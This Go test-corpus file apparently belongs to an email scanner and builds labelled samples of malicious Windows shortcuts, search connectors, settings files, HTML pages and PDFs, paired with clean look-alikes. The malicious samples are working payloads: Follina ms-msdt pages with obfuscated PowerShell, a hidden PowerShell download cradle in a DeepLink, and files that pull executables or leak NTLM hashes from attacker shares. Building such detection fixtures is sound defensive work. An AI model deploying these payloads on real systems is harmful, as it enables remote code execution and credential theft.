package corpus

import (
	"strings"

	"github.com/airlockmail/airlock/verdict"
)

// Family 2 of issue 15: shortcuts, search connectors and protocol
// handlers. Internet Shortcuts whose target or icon is a share, WebDAV
// folder or risky handler (the SmartScreen bypasses of CVE-2024-21412 and
// CVE-2023-36025 chain .url files on shares), libraries and search
// connectors that show an attacker's WebDAV folder as local (and leak
// NTLM hashes, CVE-2025-24054), a settings shortcut whose DeepLink is a
// command, and HTML pages that navigate to ms-msdt: (Follina), search-ms:
// or Office's ofe|u| handlers. The clean look-alikes are the same formats
// pointing at web pages, local folders and known folders.

// Attacker hosts for this family (RFC 5737 documentation addresses).
const (
	davHost = `198.51.100.61@80`
	smbHost = `203.0.113.61`
)

// ini joins INI lines with CRLF, as Windows writes them.
func ini(lines ...string) []byte { return []byte(strings.Join(lines, "\r\n") + "\r\n") }

// library is a .library-ms document with one location.
func library(name, url, icon string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>
<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
  <name>` + name + `</name>
  <version>6</version>
  <isLibraryPinned>true</isLibraryPinned>
  <iconReference>` + icon + `</iconReference>
  <templateInfo><folderType>{7d49d726-3c21-4f05-99aa-fdc2c9474656}</folderType></templateInfo>
  <searchConnectorDescriptionList>
    <searchConnectorDescription>
      <isDefaultSaveLocation>true</isDefaultSaveLocation>
      <isSupported>false</isSupported>
      <simpleLocation><url>` + url + `</url></simpleLocation>
    </searchConnectorDescription>
  </searchConnectorDescriptionList>
</libraryDescription>
`)
}

// connector is a .searchConnector-ms document.
func connector(desc, url string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>
<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector">
  <description>` + desc + `</description>
  <isSearchOnlyItem>false</isSearchOnlyItem>
  <includeInStartMenuScope>true</includeInStartMenuScope>
  <iconReference>imageres.dll,-1002</iconReference>
  <templateInfo><folderType>{91475FE5-586B-4EBA-8D75-D17434B8CDF6}</folderType></templateInfo>
  <simpleLocation><url>` + url + `</url></simpleLocation>
</searchConnectorDescription>
`)
}

// settingContent is a .settingcontent-ms document with one DeepLink.
func settingContent(deepLink string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>
<PCSettings>
  <SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">
    <ApplicationInformation>
      <AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>
      <DeepLink>` + deepLink + `</DeepLink>
      <Icon>%windir%\system32\control.exe</Icon>
    </ApplicationInformation>
    <SettingIdentity><PageID></PageID><HostID>{12B1697E-D3A0-4DBC-B568-CCF64A3F934D}</HostID></SettingIdentity>
    <SettingInformation><Description>@shell32.dll,-4161</Description><Keywords>@shell32.dll,-4161</Keywords></SettingInformation>
  </SearchableContent>
</PCSettings>
`)
}

func shortcutSamples() []Sample {
	follina := `<!DOCTYPE html><html><head><title>Document</title></head><body><p>Loading document…</p>
<script>
// padding a real Follina page carries so Office fetches the whole page
/* ` + strings.Repeat("x", 4096) + ` */
window.location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(Invoke-Expression($(Invoke-Expression('[System.Text.Encoding]'+[char]58+[char]58+'UTF8.GetString([System.Convert]'+[char]58+[char]58+'FromBase64String('+[char]34+'Y2FsYw=='+[char]34+'))'))))i/../../../../../../../../../../../../../../Windows/System32/mpsigstub.exe\"";
</script></body></html>`
	return []Sample{
		// --- Internet Shortcuts ---
		{Name: "search-ms-webdav.url", Want: verdict.HighlySuspicious, Why: ".url opening a Windows Search window over an attacker's WebDAV share", Data: ini(
			"[InternetShortcut]",
			`URL=search-ms:query=Invoice&crumb=location:\\`+davHost+`\DavWWWRoot\docs&displayname=Downloads`,
			"IconIndex=0")},
		{Name: "file-share-lnk.url", Want: verdict.Malicious, Why: ".url whose target is a shortcut on an SMB share (file://)", Data: ini(
			"[InternetShortcut]",
			"URL=file://"+smbHost+"/share/Invoice_2026.pdf.lnk",
			"IconFile=C:\\Windows\\System32\\imageres.dll", "IconIndex=2")},
		{Name: "smartscreen-chain.url", Want: verdict.Malicious, Why: ".url pointing at another .url inside a zip on a WebDAV share (CVE-2024-21412 chain)", Data: ini(
			"[{000214A0-0000-0000-C000-000000000046}]", "Prop3=19,9",
			"[InternetShortcut]", "IDList=",
			"URL=file://"+davHost+"/DavWWWRoot/files/report.zip/report.url",
			"HotKey=0")},
		{Name: "ms-msdt.url", Want: verdict.Malicious, Why: ".url with an ms-msdt: target (Follina)", Data: ini(
			"[InternetShortcut]",
			`URL=ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(calc)i/../../../../../../Windows/System32/mpsigstub.exe"`)},
		{Name: "remote-icon.url", Want: verdict.HighlySuspicious, Why: ".url to a web page whose icon is fetched from an SMB share (NTLM hash leak on view)", Data: ini(
			"[InternetShortcut]", "URL=https://www.example.org/invoice",
			`IconFile=\\`+smbHost+`\icons\pdf.ico`, "IconIndex=1")},
		{Name: "unc-exe.url", Want: verdict.Malicious, Why: ".url whose target is an executable on a WebDAV share (UNC path)", Data: ini(
			"[InternetShortcut]", `URL=\\`+strings.Replace(davHost, "@80", "@SSL@443", 1)+`\DavWWWRoot\Statement.exe`)},
		{Name: "appinstaller.url", Want: verdict.HighlySuspicious, Why: ".url installing an app package from a URL (ms-appinstaller:)", Data: ini(
			"[InternetShortcut]", "URL=ms-appinstaller:?source=https://198.51.100.61/update/Teams.appinstaller")},
		{Name: "ntlm-leak.scf", Want: verdict.HighlySuspicious, Why: "Shell Command File with an icon on an SMB share (NTLM hash leak when the folder is shown)", Data: ini(
			"[Shell]", "Command=2", `IconFile=\\`+smbHost+`\share\test.ico`, "[Taskbar]", "Command=ToggleDesktop")},
		{Name: "excel-ofe.website", Want: verdict.HighlySuspicious, Why: "pinned-site shortcut opening a remote macro workbook straight in Excel (ms-excel:ofe|u|)", Data: ini(
			"[{000214A0-0000-0000-C000-000000000046}]", "Prop4=31,Budget",
			"[InternetShortcut]", "URL=ms-excel:ofe|u|https://198.51.100.61/share/Budget.xlsm")},
		// --- libraries, search connectors, saved searches, settings ---
		{Name: "webdav.library-ms", Want: verdict.HighlySuspicious, Why: "library whose location is an attacker's SMB share", Data: library("Documents", `\\`+smbHost+`\shared`, "imageres.dll,-1002")},
		{Name: "webdav.searchConnector-ms", Want: verdict.HighlySuspicious, Why: "search connector showing a WebDAV folder as local", Data: connector("Shared invoices", "https://198.51.100.61@SSL/DavWWWRoot/")},
		{Name: "remote-scope.search-ms", Want: verdict.HighlySuspicious, Why: "saved search whose scope is an attacker's share", Data: []byte(`<?xml version="1.0"?>
<persistedQuery version="1.0">
  <viewInfo viewMode="details" iconSize="16"><visibleColumns><column viewField="System.ItemNameDisplay"/></visibleColumns></viewInfo>
  <query>
    <conditions><condition type="leafCondition" property="System.FileName" operator="wordmatch" propertyType="string" value="invoice"/></conditions>
    <kindList><kind name="item"/></kindList>
    <scope><include path="\\` + smbHost + `\share" nonRecursive="false"/></scope>
  </query>
</persistedQuery>
`)},
		{Name: "deeplink.settingcontent-ms", Want: verdict.Malicious, Why: "settings shortcut whose DeepLink starts PowerShell with a download cradle", Data: settingContent(`%windir%\system32\cmd.exe /c powershell -w hidden -c "iex (New-Object Net.WebClient).DownloadString('` + stageURL + `')"`)},
		// --- HTML ---
		{Name: "follina.html", Want: verdict.Malicious, Why: "page that navigates to ms-msdt: (Follina, CVE-2022-30190)", Data: []byte(follina)},
		{Name: "search-ms.html", Want: verdict.Malicious, Why: "page that sends the reader to a search-ms: window over a WebDAV share", Data: []byte(`<!DOCTYPE html><html><head><title>Invoice</title></head><body>
<p>Your invoice is ready. If the window does not open, <a href="search:query=invoice&crumb=location:\\` + davHost + `\DavWWWRoot\inv&displayname=Invoice">click here</a>.</p>
<script>setTimeout(function () { window.location.href = 'search-ms:query=invoice&crumb=location:\\\\` + davHost + `\\DavWWWRoot\\inv'; }, 500);</script>
</body></html>`)},
		{Name: "officecmd.html", Want: verdict.Malicious, Why: "page linking to ms-officecmd: (Office launcher argument injection)", Data: []byte(`<html><body><a href='ms-officecmd:{"id":3,"LocalProviders.LaunchOfficeAppForResult":{"details":{"appId":5,"name":"Teams","discovery":{"uri":"--gpu-launcher=\"C:\\Windows\\System32\\cmd /c calc\""}},"filename":"a"}}'>Open in Teams</a></body></html>`)},

		{Name: "msdt-link.pdf", Want: verdict.Malicious, Why: "PDF whose open action follows an ms-msdt: URI (Follina from a PDF reader)", Data: SimplePDF("Loading…", "/OpenAction 5 0 R",
			PDFObj{Body: "<< /S /URI /URI (ms-msdt:/id PCWDiagnostic /skip force /param \\(IT_BrowseForFile=calc\\)) >>"})},
		{Name: "search-link.pdf", Want: verdict.HighlySuspicious, Why: "PDF link to a search-ms: window over an attacker's share", Data: SimplePDF("Your scanned documents", "",
			PDFObj{Body: `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (search-ms:query=scan&crumb=location:` + strings.Repeat(`\`, 4) + smbHost + strings.Repeat(`\`, 4) + `scans) >> >>`})},

		// --- clean look-alikes ---
		{Name: "clean-intranet.url", Want: verdict.Clean, Why: ".url to a web page with a local icon", Data: ini(
			"[{000214A0-0000-0000-C000-000000000046}]", "Prop3=19,11",
			"[InternetShortcut]", "IDList=", "URL=https://intranet.example.com/wiki/Onboarding",
			"IconFile=C:\\Windows\\System32\\shell32.dll", "IconIndex=13", "HotKey=0")},
		{Name: "clean-settings.url", Want: verdict.Clean, Why: ".url opening a Settings page (ms-settings: is not risky)", Data: ini(
			"[InternetShortcut]", "URL=ms-settings:display")},
		{Name: "clean-desktop.scf", Want: verdict.Clean, Why: "the classic Show Desktop Shell Command File with a local icon", Data: ini(
			"[Shell]", "Command=2", "IconFile=explorer.exe,3", "[Taskbar]", "Command=ToggleDesktop")},
		{Name: "clean-documents.library-ms", Want: verdict.Clean, Why: "library of known and local folders", Data: library("Projects", `knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}`, "imageres.dll,-1002")},
		{Name: "clean-local.searchConnector-ms", Want: verdict.Clean, Why: "search connector for a local folder", Data: connector("Project files", `C:\Projects\Shared`)},
		{Name: "clean-display.settingcontent-ms", Want: verdict.Clean, Why: "settings shortcut whose DeepLink is Control Panel's display page", Data: settingContent(`%windir%\system32\control.exe /name Microsoft.Display`)},
		{Name: "clean-links.html", Want: verdict.Clean, Why: "page with web, mail and phone links, protocol-relative scripts and prose that says search: and file:", Data: []byte(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Contact</title>
<script src="//cdn.example.org/lib.js"></script></head><body>
<h1>Contact us</h1>
<p>Search: type a name in the box. File: attach your report as a PDF.</p>
<p><a href="https://www.example.org/help">Help</a> · <a href="mailto:help@example.org">Mail</a> · <a href="tel:+15555550100">Call</a>
· <a href="javascript:void(0)" onclick="window.print()">Print</a> · <a href="ms-settings:privacy">privacy settings</a></p>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="">
</body></html>`)},
	}
}
